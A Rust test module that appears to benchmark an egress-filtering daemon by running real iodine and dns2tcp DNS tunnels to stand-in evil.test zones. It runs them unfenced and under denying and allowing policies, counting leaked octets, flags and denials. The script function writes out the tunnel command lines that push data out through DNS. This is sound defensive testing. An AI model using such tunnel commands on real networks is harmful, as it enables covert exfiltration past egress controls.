//! The part that runs real tunnels through the real daemon: their domain denied, then allowed as a wildcard.

use super::{
    Goal, Outcome, progress,
    relay::{RELAY, Relay, SINK, Sink, TUNNEL_SERVER, Upstream},
    table::Table,
};
use crate::{
    fence::Fence,
    lab::Lab,
    program::{Program, poll_for},
    programs,
};
use egressd::policy::LeakBudget;
use serde_json::{Value, json};
use std::{fs, net::UdpSocket, path::Path, time::Duration};

/// Each tunnel as what is not fenced, as an agent whose policy denies its domain, and as one whose policy
/// allows all names below it.
pub fn all() -> Outcome {
    let lab = Lab::new();
    let sink = Sink::start(&lab);
    let _servers = servers(&lab);
    let upstream = Upstream::start(&lab, ZONES);
    let mut runs: Vec<Run> = [Tunnel::Iodine("NULL"), Tunnel::Dns2tcp("TXT")]
        .map(|tunnel| unfenced(&lab, tunnel, &upstream, &sink))
        .into();
    let fence = Fence::start(lab, programs(), DENIED);
    for (what, policy) in [("denied", DENIED), ("allowed", ALLOWED)] {
        assert!(fence.reload(policy).succeeded(), "the policy is valid");
        for (number, tunnel) in TUNNELS.into_iter().enumerate() {
            progress(&format!("{tunnel:?}, its domain {what}"));
            runs.push(fenced(&fence, tunnel, what, &format!("{what}-{number}"), &upstream, &sink));
        }
    }
    outcome(&runs)
}

#[derive(Debug, Clone, Copy)]
enum Tunnel {
    Iodine(&'static str),
    Dns2tcp(&'static str),
}

/// What one tunnel did.
struct Run {
    tunnel: Tunnel,
    what: &'static str,
    /// Octets that came out of it.
    tunnelled: u64,
    /// The most octets that its names held, of those that reached the upstream.
    readable: f64,
    flags: Vec<String>,
    denials: usize,
}

impl Tunnel {
    fn zone(self) -> &'static str {
        match self {
            Self::Iodine(_) => ZONES[0].0,
            Self::Dns2tcp(_) => ZONES[1].0,
        }
    }

    /// A shell's line that sends random octets through it by way of `server`.
    fn script(self, server: &str) -> String {
        let zone = self.zone();
        match self {
            Self::Iodine(kind) => format!(
                "exec iodine -f -r -P secret -m 200 -O base32 -T {kind} -d {CLIENT_DEVICE} {server} {zone}"
            ),
            Self::Dns2tcp(kind) => format!(
                "(head -c {PAYLOAD} /dev/urandom; sleep {0}) | \
                 exec timeout {0} dns2tcpc -z {zone} -r sink -k secret -l - -T {kind} {server}",
                TIME.as_secs()
            ),
        }
    }
}

fn unfenced(lab: &Lab, tunnel: Tunnel, upstream: &Upstream, sink: &Sink) -> Run {
    progress(&format!("{tunnel:?}, not fenced"));
    upstream.forget();
    sink.take();
    let client = Program::start(lab.command(&["bash", "-c", &tunnel.script("10.99.0.53")]));
    watch(lab, client, sink);
    Run::of(tunnel, "not fenced", upstream, sink)
}

fn fenced(
    fence: &Fence,
    tunnel: Tunnel,
    what: &'static str,
    agent_name: &str,
    upstream: &Upstream,
    sink: &Sink,
) -> Run {
    upstream.forget();
    sink.take();
    let agent = fence.agent(agent_name);
    match tunnel {
        // It needs a device that agents do not get: so it is outside, and an agent asks what it wants.
        Tunnel::Iodine(_) => {
            let relay = Relay::start(fence.lab(), &agent);
            let mut command = fence.lab().bare_command("bash");
            command.args(["-c", &tunnel.script(&RELAY.0.to_string())]);
            watch(fence.lab(), Program::start(command), sink);
            let run = Run { flags: flags(fence, agent_name), ..Run::of(tunnel, what, upstream, sink) };
            drop(relay);
            Run { denials: agent.denials().len(), ..run }
        }
        Tunnel::Dns2tcp(_) => {
            let client = agent.spawn(&["bash", "-c", &tunnel.script("10.99.0.53")]);
            watch(fence.lab(), client, sink);
            let run = Run { flags: flags(fence, agent_name), ..Run::of(tunnel, what, upstream, sink) };
            Run { denials: agent.denials().len(), ..run }
        }
    }
}

impl Run {
    fn of(tunnel: Tunnel, what: &'static str, upstream: &Upstream, sink: &Sink) -> Self {
        let readable = upstream.symbols_below(tunnel.zone()) as f64 * BITS_OF_BASE64 / 8.0;
        Self { tunnel, what, tunnelled: sink.take(), readable, flags: Vec::new(), denials: 0 }
    }
}

/// Until enough came through, the client gave up, or its time is over. Whoever made a device of it sends
/// through that.
fn watch(lab: &Lab, mut client: Program, sink: &Sink) {
    let through = lab.on_host(|| UdpSocket::bind("0.0.0.0:0").expect("a socket can be bound"));
    poll_for(TIME, || {
        let _ = through.send_to(&[0x5a; 400], (TUNNEL_SERVER, SINK));
        (client.has_ended() || sink.count() >= ENOUGH).then_some(())
    });
}

/// Those of `egressctl leaks`, with their first words.
fn flags(fence: &Fence, agent: &str) -> Vec<String> {
    let outcome = fence.ctl(&["tail", "-n", "1000", "--agent", agent, "-o", "json"]);
    let alerts = outcome.stdout.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let mut flags: Vec<String> =
        alerts.filter_map(|alert| Some(alert.get("flag")?.as_str()?.to_owned())).collect();
    flags.dedup();
    flags
}

fn servers(lab: &Lab) -> [Program; 2] {
    let configuration = lab.folder().join("dns2tcpd.conf");
    let text = format!(
        "listen = 127.0.0.1\nport = {}\nuser = nobody\nchroot = {}\ndomain = {}\nkey = secret\n\
         resources = sink:127.0.0.1:{SINK}\n",
        ZONES[1].1,
        empty(lab).display(),
        ZONES[1].0,
    );
    fs::write(&configuration, text).expect("the configuration can be written");
    let mut iodined = lab.inet_command("iodined");
    iodined.args(["-f", "-c", "-P", "secret", "-l", "127.0.0.1", "-p", &ZONES[0].1.to_string()]);
    iodined.args(["-d", "dnss", TUNNEL_SERVER, ZONES[0].0]);
    let mut dns2tcpd = lab.inet_command("dns2tcpd");
    dns2tcpd.args(["-F", "-d", "1", "-f"]).arg(configuration);
    [Program::start(iodined), Program::start(dns2tcpd)]
}

fn empty(lab: &Lab) -> std::path::PathBuf {
    let folder = lab.folder().join("empty");
    fs::create_dir_all(Path::new(&folder)).expect("a folder can be made");
    folder
}

fn outcome(runs: &[Run]) -> Outcome {
    let mut table = Table::new(
        format!("real tunnels through the real daemon, at most {} s each", TIME.as_secs()),
        &["tunnel", "domain", "octets out of it", "at most readable upstream", "flags", "denials"],
    );
    for run in runs {
        table.push([
            format!("{:?}", run.tunnel),
            run.what.to_owned(),
            run.tunnelled.to_string(),
            format!("{:.0}", run.readable),
            if run.flags.is_empty() { "-".to_owned() } else { run.flags.join(", ") },
            run.denials.to_string(),
        ]);
    }
    table
        .notes
        .push("readable: every symbol of every name that reached the upstream, as six bits".to_owned());
    let of =
        |what: &str| runs.iter().filter(|run| run.what == what).map(|run| run.readable).fold(0.0, f64::max);
    let at_once = f64::from(LeakBudget::RULE.capacity()) / 8.0;
    let goals = vec![
        Goal {
            metric: "live tunnels of a denied domain, octets upstream",
            to_beat: "0",
            ours: format!("{:.0}", of("denied")),
            is_met: of("denied") == 0.0,
        },
        Goal {
            metric: "live tunnels of an allowed wildcard, most octets upstream",
            to_beat: "1024",
            ours: format!("{:.0} (not fenced {:.0})", of("allowed"), of("not fenced")),
            is_met: of("allowed") <= at_once,
        },
    ];
    let figures = runs.iter().map(|run| {
        json!({
            "tunnel": format!("{:?}", run.tunnel), "domain": run.what, "tunnelled": run.tunnelled,
            "readable": run.readable, "flags": run.flags, "denials": run.denials,
        })
    });
    let figures = std::iter::once(("live".to_owned(), figures.collect())).collect();
    Outcome { tables: vec![table], goals, figures }
}

const TUNNELS: [Tunnel; 7] = [
    Tunnel::Iodine("NULL"),
    Tunnel::Iodine("PRIVATE"),
    Tunnel::Iodine("TXT"),
    Tunnel::Iodine("CNAME"),
    Tunnel::Iodine("A"),
    Tunnel::Dns2tcp("TXT"),
    Tunnel::Dns2tcp("KEY"),
];

/// Whose names whose server answers, by its port on loopback.
const ZONES: &[(&str, u16)] = &[("t.evil.test", 5353), ("d.evil.test", 5354)];

const DENIED: &str = "
version: 1
agents:
  default:
    rules:
      - {host: ok.test, private: true}
";

const ALLOWED: &str = "
version: 1
agents:
  default:
    rules:
      - {host: ok.test, private: true}
      - {host: '**.t.evil.test', private: true}
      - {host: '**.d.evil.test', private: true, types: [TXT, CNAME]}
";

const TIME: Duration = Duration::from_secs(10);
/// Octets that are sent, and of which so many prove that a tunnel works.
const PAYLOAD: u64 = 20_000;
const ENOUGH: u64 = 4_000;
const BITS_OF_BASE64: f64 = 6.0;
const CLIENT_DEVICE: &str = "dnsc";
